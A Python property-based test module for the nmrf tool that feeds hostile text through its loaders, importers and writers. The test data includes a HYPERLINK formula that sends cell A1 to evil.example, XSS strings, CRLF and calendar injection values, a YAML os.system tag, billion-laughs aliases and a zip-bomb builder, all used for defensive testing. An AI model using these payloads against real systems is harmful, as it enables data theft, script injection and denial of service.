"""Every input hostile until proven otherwise (issue 17): machine-generated text through the profile loader, the
importers, the workbook reader, the date parsers and every text writer.

The contract each property checks: either a clear error (NmrfError, or a problem with its line) and nothing
written, or output that its own parser reads back to the same text. Examples per property: the Hypothesis
profile (`dev` by default, `ci` in .ci/run); the tally at the end of the run prints how many cases ran.
"""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
import vobject
import yaml
from hypothesis import assume, example, given
from hypothesis import strategies as st
from icalendar import Calendar
from markdown_it import MarkdownIt

from nmrf.calendars.build import FeedSpec, build_calendar
from nmrf.calendars.items import FeedItem
from nmrf.calendars.meetings import local_time
from nmrf.cli.recommendations import TEMPLATE_EXAMPLE
from nmrf.documents.workbooks import COLUMNS, SHEET, RequestRow, RequestSheet, read_returned, write_request
from nmrf.domain.dates import EARLIEST, LATEST, parse_day
from nmrf.domain.escape import csv_cell, md_text, read_csv_cell
from nmrf.domain.recommendation_files import TEMPLATE_HEADER, parse
from nmrf.domain.taxonomy import load_taxonomy
from nmrf.domain.text import text_problem
from nmrf.domain.yamlfile import load_yaml
from nmrf.errors import NmrfError
from nmrf.profile import EXAMPLE_PROFILE, load_profile
from tests.support.tally import count

DATA = Path(__file__).resolve().parents[3] / "nmrf" / "data"
HOSTILE = st.sampled_from([
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "\t=1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "# heading", "- item", "1. first", "> quote",
    "***", "[link](http://evil.example)", "`code`", "a\r\nX-INJECTED:1", "a\rb", "a\nb", "NUL\x00here",
    "\u2028line", "\x1b[31mred", "trailing  ", "  leading", "&amp; &lt;", "|a|b|", "~~gone~~", "\\", "'quoted'",
    "Equité", "Ñandú — «comillas»", "🙂", "\ufeffbom",
])
ANY_TEXT = st.one_of(HOSTILE, st.text(max_size=200))
# Text that may enter nmrf (the one rule): what a writer must carry through unchanged.
VALID = st.one_of(HOSTILE, st.text(max_size=200)).filter(lambda t: text_problem(t) is None)
VALID_LINE = VALID.filter(lambda t: text_problem(t, multiline=False) is None)


# -- the one rule for text ------------------------------------------------------------------------------------


@given(ANY_TEXT)
def test_the_text_rule_refuses_exactly_the_control_characters_and_says_where(text: str) -> None:
    count("text", "rule")
    problem = text_problem(text)
    bad = [c for c in text if (ord(c) < 32 and c not in "\t\n\r") or 0x7F <= ord(c) <= 0x9F
           or c in "\u2028\u2029\ufeff\ufffe\uffff" or 0xD800 <= ord(c) <= 0xDFFF]
    assert (problem is None) == (not bad)
    if bad:
        assert f"U+{ord(bad[0]):04X}" in problem


# -- the profile loader ---------------------------------------------------------------------------------------


def _profile_with(tmp_path: Path, edit) -> Path:  # noqa: ANN001
    data = yaml.safe_load(EXAMPLE_PROFILE.read_text(encoding="utf-8"))
    edit(data)
    path = tmp_path / "profile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


@given(name=ANY_TEXT, where=st.sampled_from(["person", "institution", "state"]))
@example(name="Jorge\rX-INJECTED:1", where="person")
@example(name="Nul\x00", where="institution")
def test_a_generated_name_in_a_profile_is_kept_exactly_or_refused_with_its_line(tmp_path_factory, name, where):
    count("profile", "names")
    tmp = tmp_path_factory.mktemp("p")

    def edit(data: dict) -> None:
        {"person": data["people"][3], "institution": data["institutions"][1], "state": data["state"]}[where]["name"] = name

    path = _profile_with(tmp, edit)
    try:
        profile = load_profile(path)
    except NmrfError as exc:
        assert all(p.file == str(path) for p in exc.problems)
        assert any(p.line for p in exc.problems), str(exc)
        return
    got = {"person": profile.people[3], "institution": profile.institutions[1], "state": profile.state}[where].name
    assert got == name and text_problem(name, multiline=False) is None


@given(st.one_of(st.text(max_size=400), st.sampled_from([
    "a: &a [1,2]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
    "e: &e [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\n",
    "a: &a [*a]\n", "a: &a {b: *a}\n", "d: 2024-02-30\n", "d: 9999-12-31\n", "? [a]\n: 1\n", "[" * 200,
    "a: !!python/object/apply:os.system ['true']\n", "a: !!binary AAAA\n", "%YAML 9.9\n---\na: 1\n"])))
def test_any_generated_yaml_loads_as_plain_data_or_is_refused_with_a_clear_error(text: str) -> None:
    count("profile", "yaml")
    try:
        load_yaml(text, filename="gen.yaml")
    except NmrfError as exc:
        assert str(exc).startswith("gen.yaml")


def test_a_billion_laughs_profile_is_refused_quickly_with_its_line(tmp_path: Path) -> None:
    lol = "".join(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9 if i else ['"lol"'] * 9) + "]\n" for i in range(10))
    path = tmp_path / "lol.yaml"
    path.write_text(lol + "state: *l9\n", encoding="utf-8")
    assert len(path.read_bytes()) < 1000
    with pytest.raises(NmrfError) as refused:
        load_profile(path)
    assert "aliases repeat more than" in str(refused.value) and f"{path}:" in str(refused.value)
    path.write_text("state: &s {name: *s}\n", encoding="utf-8")
    with pytest.raises(NmrfError, match="recursive alias"):
        load_profile(path)
    path.write_text(EXAMPLE_PROFILE.read_text().replace("state:", "state:\n  last_check: 2024-02-30", 1))
    with pytest.raises(NmrfError, match="2024-02-30.*not a date that exists"):
        load_profile(path)
    count("profile", "bounded", 3)


# -- the importers --------------------------------------------------------------------------------------------


def _csv(rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    return buf.getvalue().encode("utf-8")


def _sample(fmt: str) -> tuple[list[str], list[str], int]:
    if fmt == "template":
        return TEMPLATE_HEADER, list(TEMPLATE_EXAMPLE), TEMPLATE_HEADER.index("text")
    path = {"upr-info": DATA / "upr-info" / "upr-info-sessions-1-5.csv", "uhri": DATA / "uhri" / "uhri-chile-sample.csv"}[fmt]
    raw = path.read_bytes()
    from nmrf.domain.recommendation_files import decode

    text, _, _ = decode(raw)
    reader = csv.reader(io.StringIO(text, newline=""))
    header, first = next(reader), next(reader)
    column = {"upr-info": "Text", "uhri": next(h for h in header if h.strip().lower() in (
        "recommendation", "text", "recommendation text", "observation", "recommendation/observation"))}[fmt]
    return header, first, header.index(column)


@given(fmt=st.sampled_from(["upr-info", "uhri", "template"]), text=ANY_TEXT)
@example(fmt="template", text="=1+1")
@example(fmt="uhri", text="a\x00b")
def test_a_generated_recommendation_text_is_imported_exactly_or_refused_with_its_line(fmt: str, text: str) -> None:
    count("import", fmt)
    header, row, i = _sample(fmt)
    row = list(row)
    row[i] = text
    parsed = parse(_csv([header, row]), fmt=fmt, file="gen.csv", taxonomy=load_taxonomy())
    if parsed.problems:
        assert all(p.file == "gen.csv" and p.line for p in parsed.problems), parsed.problems
        assert not parsed.rows
        return
    assert text_problem(text) is None and text.strip()
    [rec] = parsed.rows
    assert rec.text == text


@given(st.binary(max_size=600))
def test_any_bytes_given_as_a_csv_file_give_rows_or_problems_never_an_exception(data: bytes) -> None:
    count("import", "bytes")
    for fmt in ("upr-info", "uhri", "template"):
        parsed = parse(data, fmt=fmt, file="gen.csv", taxonomy=load_taxonomy())
        for rec in parsed.rows:
            assert text_problem(rec.text) is None


# -- the workbook: written, filled in, read back ----------------------------------------------------------------


def _sheet(texts: list[str]) -> RequestSheet:
    rows = [RequestRow(ref=n + 1, cluster="C1", theme=t, mechanism="UPR", body=t, document="A/HRC/1", text=t,
                       role="lead", also="", previous=t, question=t) for n, t in enumerate(texts)]
    return RequestSheet(token="tok", cycle_key="UPR/upr_review/2027", institution_key="health",
                        about=[("Institution", texts[0] if texts else "")], rows=rows, calendar=[],
                        clusters=[], generated_at=datetime(2027, 3, 1, tzinfo=UTC))


@given(texts=st.lists(VALID, min_size=1, max_size=4), answer=VALID)
@example(texts=["=1+1", "+cmd", "@x", "-3"], answer="=SUM(A1:A2)")
def test_a_workbook_written_with_any_text_reads_back_the_same_and_no_cell_is_a_formula(texts, answer) -> None:
    count("xlsx", "round-trip")
    from openpyxl import load_workbook

    data = write_request(_sheet(texts))
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    # A ministry fills the answer in, as a person would, and sends it back.
    ws = wb[SHEET]
    assume(answer.strip())
    for r in range(2, ws.max_row + 1):
        ws.cell(r, COLUMNS.index("Answer") + 1, answer).data_type = "s"
        ws.cell(r, COLUMNS.index("Implementation") + 1, "implemented")
    buf = io.BytesIO()
    wb.save(buf)
    back = read_returned(buf.getvalue(), file="returned.xlsx")
    assert not back.problems, back.problems
    assert [" ".join(r.text.split()) for r in back.rows] == [" ".join(t.split()) for t in texts]
    assert {r.answer for r in back.rows} == {answer.strip()}


def test_a_zip_bomb_workbook_is_refused_before_openpyxl_sees_it(tmp_path: Path) -> None:
    import resource
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(600):  # 600 MB unpacked, under a megabyte packed
                fh.write(chunk)
    data = buf.getvalue()
    assert len(data) < 2 * 1024 * 1024
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    back = read_returned(data, file="bomb.xlsx")
    grew_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert back.problems and "zip bomb" in str(back.problems[0])
    assert grew_mb < 100, grew_mb
    count("xlsx", "zip-bomb")


# -- the date parsers ----------------------------------------------------------------------------------------


@given(st.one_of(st.text(max_size=30), st.dates().map(date.isoformat),
                 st.sampled_from(["", " ", "2024-02-30", "9999-01-01", "0001-01-01", "1944-12-31", "2201-01-01",
                                  "2024-2-3", "20240203", "2024-W05-1", "2024-02-29"])))
def test_a_typed_date_is_a_date_between_1945_and_2200_or_a_clear_error(text: str) -> None:
    count("dates", "parse_day")
    try:
        day = parse_day(text, what="--as-of")
    except NmrfError as exc:
        assert str(exc).startswith("--as-of")
        return
    assert EARLIEST <= day <= LATEST and text.strip()


@given(st.dates(min_value=EARLIEST, max_value=LATEST))
def test_every_date_in_range_reads_back_from_its_own_text(day: date) -> None:
    count("dates", "round-trip")
    assert parse_day(day.isoformat(), what="date") == day


@given(st.text(max_size=30), st.sampled_from(["Europe/Zurich", "America/Santiago", "Nowhere/City", ""]))
def test_a_meeting_time_is_an_aware_moment_or_a_clear_error(text: str, zone: str) -> None:
    count("dates", "meeting")
    try:
        moment = local_time(text, zone)
    except NmrfError:
        return
    assert moment.tzinfo is not None


# -- the writers ---------------------------------------------------------------------------------------------


@given(name=ANY_TEXT, summary=ANY_TEXT, description=ANY_TEXT)
@example(name="Jorge\rX-INJECTED:1", summary="a\r\nBEGIN:VEVENT", description="x\rMETHOD:CANCEL")
def test_a_feed_with_any_text_is_one_calendar_that_reads_back_to_the_text(name, summary, description) -> None:
    count("feeds", "writer")
    when = datetime(2027, 3, 10, 12, tzinfo=UTC)
    item = FeedItem(uid="u1@nmrf", summary=summary, description=description, status="active", sequence=0,
                    created_at=when, updated_at=when, day=date(2027, 4, 1))
    body = build_calendar(FeedSpec(name=name, description=description, timezone="UTC"), [item], now=when).to_ical()
    lines = body.replace(b"\r\n ", b"").split(b"\r\n")
    assert lines.count(b"BEGIN:VCALENDAR") == 1 and lines.count(b"BEGIN:VEVENT") == 1
    assert not any(b"\r" in line or b"\n" in line for line in lines)
    [cal] = list(vobject.readComponents(body.decode("utf-8")))
    parsed = Calendar.from_ical(body)
    [event] = parsed.walk("VEVENT")
    if text_problem(name, multiline=False) is None:
        assert str(parsed["NAME"]) == name == str(parsed["X-WR-CALNAME"])
        # vobject reads NAME raw (it leaves "\\," escaped); what matters there is that nothing was injected.
        assert set(cal.contents) <= {"prodid", "version", "calscale", "method", "name", "x-wr-calname",
                                     "description", "x-wr-caldesc", "x-wr-timezone", "refresh-interval",
                                     "x-published-ttl", "vevent"}
    if text_problem(summary, multiline=False) is None:
        assert str(event["SUMMARY"]) == summary
    if text_problem(description) is None:
        assert str(event["DESCRIPTION"]) == description.replace("\r\n", "\n").replace("\r", "\n")


@given(st.lists(ANY_TEXT, min_size=1, max_size=6))
@example(["'=", "'", "''+1", "'text"])  # an apostrophe of the text's own, before a formula character or not
def test_a_csv_cell_never_starts_a_formula_and_reads_back_to_the_text(cells: list[str]) -> None:
    count("csv", "writer")
    buf = io.StringIO()
    csv.writer(buf).writerow([csv_cell(c) for c in cells])
    [row] = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    for written, given_ in zip(row, cells, strict=True):
        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
        if text_problem(given_) is None:
            assert read_csv_cell(written) == given_


class _Text(HTMLParser):
    """The text inside each element, and every tag seen."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.text: dict[str, str] = {}
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:  # noqa: ANN001
        self.tags.append(tag)
        if tag not in ("meta", "br", "input"):
            self.stack.append(tag)

    def handle_endtag(self, tag) -> None:  # noqa: ANN001
        if self.stack and self.stack[-1] == tag:
            self.stack.pop()

    def handle_data(self, data: str) -> None:
        if self.stack:
            self.text[self.stack[-1]] = self.text.get(self.stack[-1], "") + data


@given(title=ANY_TEXT, line=ANY_TEXT)
@example(title="<script>alert(1)</script>", line="<img src=x onerror=alert(1)> &amp;")
def test_the_acknowledgement_page_escapes_any_text_and_reads_back_to_it(title: str, line: str) -> None:
    count("html", "writer")
    from nmrf.domain.i18n import translator
    from nmrf.web.routes.acks import _page

    body = _page(translator("en"), title, lines=[line]).body.decode("utf-8")
    plain = _page(translator("en"), "x", lines=["y"]).body.decode("utf-8")
    seen, expected = _Text(), _Text()
    seen.feed(body)
    expected.feed(plain)
    assert seen.tags == expected.tags  # the text made no element of its own
    # What a browser shows: the text as given (HTML folds CR LF to LF when parsing).
    assert seen.text.get("h1", "") == title.replace("\r\n", "\n").replace("\r", "\n") or seen.text.get("h1", "") == title
    assert seen.text.get("p", "").strip() == line.replace("\r\n", "\n").replace("\r", "\n").strip() or \
        seen.text.get("p", "") == line


_MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")


@given(ANY_TEXT)
@example("# title\n- item\n> quote <b>bold</b> [x](http://e) &amp; 1. a")
def test_markdown_escaped_text_makes_no_structure_and_renders_as_the_text(text: str) -> None:
    count("markdown", "writer")
    source = md_text(text)
    assert "\n" not in source and "\r" not in source
    tokens = _MD.parse(source)
    expected = " ".join(re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff\ufeff\ufffe\uffff]", "",
                               text).split())
    if not expected:
        assert not tokens or [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"]
        return
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], (source, tokens)
    children = tokens[1].children or []
    assert {c.type for c in children} <= {"text"}, (source, [c.type for c in children])
    assert "".join(c.content for c in children) == expected.replace("\x00", "\ufffd")


def test_the_public_csv_and_markdown_keep_formulas_and_html_inert() -> None:
    from nmrf.services.publication import PublicView, render

    row = type("Row", (), {})()
    from nmrf.services.publication import PublicRow

    fields = PublicRow.__dataclass_fields__
    values = {k: ("=HYPERLINK(\"http://x\")" if k in ("text", "ref") else "<b>x</b>\n# y" if k == "lead" else
                  [] if k in ("themes", "sdgs", "supporting", "actions") else "x") for k in fields}
    view = PublicView(state="Chile", as_of="2027-03-01", rows=[PublicRow(**values)], left_out=0)
    out = render(view, ".csv")
    [_, cells] = list(csv.reader(io.StringIO(out, newline="")))
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    md = render(view, ".md")
    assert "<b>" not in md and "\n# y" not in md and "\\<b\\>" in md
    count("csv", "public", 1)
    count("markdown", "public", 1)
    del row
